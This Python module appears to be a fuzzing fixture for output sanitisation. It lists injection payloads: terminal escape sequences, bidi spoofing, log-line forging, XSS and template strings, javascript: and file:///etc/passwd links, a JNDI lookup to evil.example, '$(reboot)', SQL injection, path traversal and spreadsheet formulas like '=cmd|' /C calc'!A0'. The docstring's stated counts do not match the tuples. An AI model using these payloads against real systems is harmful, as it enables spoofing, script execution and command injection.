"""What strangers write so that whoever shows it is steered by it: 150 payloads, and 30 formulas."""

import re

# What a terminal obeys, and what makes text show as another: C0 but tabs and line ends, DEL, C1,
# and the bidi controls.
LIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

_ESC, _CSI, _OSC, _ST = "\x1b", "\x9b", "\x9d", "\x9c"

# A forged line begins with this.
FORGED = "forged"

_TERMINAL = (
    f"{_ESC}[2J{_ESC}[H", f"{_ESC}[31mred", f"{_ESC}[8mhidden{_ESC}[0m", f"{_ESC}[1A{_ESC}[2K",
    f"{_ESC}[5m", f"{_ESC}[?1049h", f"{_ESC}[?25l", f"{_ESC}[6n", f"{_ESC}[c", f"{_ESC}[>c",
    f"{_ESC}[21t", f"{_ESC}[20t", f"{_ESC}[5i", f"{_ESC}[4i", f"{_ESC}c", f"{_ESC}#8", f"{_ESC}7",
    f"{_ESC}(0lqk", f"{_ESC}[!p", f"{_ESC}[?7l", f"{_ESC}[1;1r", f"{_ESC}]0;owned\x07",
    f"{_ESC}]2;owned{_ESC}\\", f"{_ESC}]52;c;cm0gLXJm\x07", f"{_ESC}]8;;http://evil.example\x07a",
    f"{_ESC}]8;;javascript:alert(1){_ESC}\\a", f"{_ESC}]4;1;?\x07", f"{_ESC}]11;?\x07",
    f"{_ESC}]1337;File=inline=1:AAAA\x07", f"{_ESC}]50;#1\x07", f"{_ESC}]777;notify;a;b\x07",
    f"{_ESC}P$q\"p{_ESC}\\", f"{_ESC}P+q544e{_ESC}\\",
    f"{_ESC}_Ga=T;AAAA{_ESC}\\", f"{_ESC}^x{_ESC}\\",
    f"{_ESC}Xx{_ESC}\\", f"{_ESC}k title{_ESC}\\", f"{_CSI}2J", f"{_CSI}31m", f"{_CSI}6n",
    f"{_OSC}0;owned{_ST}", f"{_OSC}8;;http://evil.example{_ST}a", "\x90q\x9c", "\x98x\x9c",
    "\x84\x85\x8d", "\x07\x07\x07", "\x08\x08\x08\x08safe", "\x7f\x7f", "\x0e\x0f", "\x05", "\x00",
    "a\x00b", "\x1a\x1c\x1d\x1e\x1f", "harmless\rrm -rf", "\x0b\x0c", "\x11\x13", "\x03\x04",
    f"\x1b\x1b[[{_ESC}", f"{_ESC}", f"{_ESC}[", f"{_ESC}]", "\x18", "\x16\x1b",
)  # fmt: skip

_BIDI = (
    "\u202egpj.exe", "\u202dabc\u202c", "\u2066a\u2069", "\u2067b\u2069", "\u2068c\u2069",
    "\u202aa\u202bb\u202c\u202c", "\u200ea\u200fb", "\u061ca", "user\u202e\u2066 // admin\u2069",
    "\u202e" * 50,
)  # fmt: skip

_LINES = (
    f'x\n{FORGED}{{"event": "paid"}}', f"x\r\n{FORGED}", f"x\r{FORGED}", f"x\u2028{FORGED}",
    f"x\u2029{FORGED}", f"x\x85{FORGED}", f"x\x0b{FORGED}", f"x\x0c{FORGED}", f"x\n\n\n{FORGED}",
    f"x\x1c{FORGED}", f'x"}}\n{FORGED}{{"', f"x&#10;{FORGED}", f"x&#x0a;{FORGED}", f"x\\n{FORGED}",
    f"x%0a{FORGED}", f"x%0d%0aSet-Cookie: a={FORGED}",
)  # fmt: skip

_MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>", "<body onload=alert(1)>",
    "<math><a xlink:href=javascript:a>",
    "\"><script>alert(1)</script>", "'-alert(1)-'", "</title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    "<style>@import'//evil.example'</style>", "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example>",
    "<form action=//evil.example><button>x", "<object data=javascript:alert(1)>", "<x onclick=a>",
    "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "{{7*7}}", "${7*7}",
    "<%= 7*7 %>", "{% import os %}", "#{7*7}",
)  # fmt: skip

_LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "file:///etc/passwd", "//evil.example", "http://user:password@evil.example/",
    "jar:http://evil.example!/", "view-source:javascript:alert(1)",
)  # fmt: skip

_FORMATS = (
    "[bold red]x[/]", "[link=http://evil.example]x[/link]", "[/]", "[[", ":skull:", "[@click=a]x",
    "%s%s%n", "{0.__class__}", "{event}", "${jndi:ldap://evil.example/a}", "$(reboot)", "`reboot`",
    "'; DROP TABLE articles; --", "\" OR 1=1 --", "../../etc/passwd", "\\x1b[31m", "\\u001b[31m",
    "^[[31m", "%1b[31m", "&#x1b;[31m", "&#27;[2J", "&#x9b;2J", "&#x202e;", "&#8238;",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (*_TERMINAL, *_BIDI, *_LINES, *_MARKUP, *_LINKS, *_FORMATS)

FORMULAS: tuple[str, ...] = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "=", "--", "+-1",
    "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "@import", "＝1+1", "＋1",
    "－1", "＠x", "-2+3+cmd|' /C calc'!A0", "=1;=2", "+\"", "\t", "\r\n@x", "  -x", "=\u0000",
    "=IMPORTXML(1)", "-", "@", "+", "\u2028=1", "\x85=1", "\u200b=1", "\ufeff=1", "\x00=1",
    "\x1b=1",
)  # fmt: skip
